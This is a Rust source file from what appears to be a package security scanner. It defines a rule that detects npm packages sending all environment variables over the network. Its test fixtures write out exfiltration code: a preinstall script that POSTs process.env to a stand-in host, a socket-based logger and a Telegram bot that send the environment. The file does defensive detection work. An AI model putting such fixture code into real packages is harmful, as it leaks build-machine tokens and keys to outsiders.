//! The whole environment leaves over the network.

use super::{Context, Declaration, Example, Finding, judge};
use crate::model::{Confidence, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "environment-exfiltration",
    title: "Sends the whole environment over the network",
    severity: Severity::Critical,
    summary: "All environment variables at once reach a request, a socket or a DNS query. On build machines they hold tokens and keys.",
    advice: "Nothing needs all variables. If it ran where tokens or keys are in the environment, on a build machine for one, take them for known to others and revoke them.",
    benign_when: "A diagnostic tool sends its own crash reports, and says so; even then it should pick variables by name.",
    references: &["CWE-200", "CWE-506", "T1041", "T1552"],
    examples: &[
        Example {
            name: "an install script posts process.env",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"fetch("https://collect.invalid/", { method: "POST", body: JSON.stringify(process.env) });"#,
                ),
            ],
        },
        Example {
            name: "a layout for a logger makes a text of it, and a transport sends texts",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const net = require("net");
const layouts = { beat() { const line = { pid: process.pid }; line.env = process.env; return JSON.stringify(line); } };
exports.layout = (name) => layouts[name];
exports.open = (config) => net.connect(config.port, config.host);"#,
                ),
            ],
        },
        Example {
            name: "a bot tells somebody in a messenger",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js","dependencies":{"telegraf":"4"}}"#,
                ),
                (
                    "i.js",
                    r#"const { Telegraf } = require("telegraf");
new Telegraf("1:a").telegram.sendMessage(7, JSON.stringify(process.env));"#,
                ),
            ],
        },
        Example {
            name: "a child process gets the environment",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { spawn } = require("child_process");
exports.run = (tool) => spawn(tool, [], { env: { ...process.env, CI: "1" } });"#,
                ),
            ],
        },
    ],
    detect,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    for flow in context.flows {
        if flow.id != "environment-to-network" {
            continue;
        }
        let host = flow
            .sink
            .target
            .as_deref()
            .unwrap_or("a host that is not resolved");
        let message = format!("all environment variables are sent to {host}");
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        judge::by_destination(context, flow, &flow.sink, Severity::High, &mut finding);
        judge::by_reach(context, flow, &mut finding);
        found.push(finding);
    }
    found.extend(of_text(context, found));
}

/// A text is made of all variables, and it was not seen where it goes.
fn of_text(context: &Context<'_>, found: &[Finding]) -> Option<Finding> {
    if found.iter().any(|one| one.what.id == FINDING.id) {
        return None;
    }
    let mut all = context.behaviours.iter();
    let text = all.find(|one| one.what.id == "environment.text" && !one.reach.is_dormant())?;
    let message = "a text is made of all environment variables".to_owned();
    let mut finding = Finding::of_behaviour(&FINDING, text, message);
    finding.confidence = Confidence::Medium;
    let talks = context
        .behaviours
        .iter()
        .any(|one| one.what.id.starts_with("network.") && !one.reach.is_dormant());
    let (at_most, note) = match talks {
        true => (Severity::High, "where it goes was not seen"),
        false => (
            Severity::Medium,
            "the package was not seen to talk to anybody",
        ),
    };
    finding.lower(at_most, "destination-unknown", note.to_owned());
    Some(finding)
}
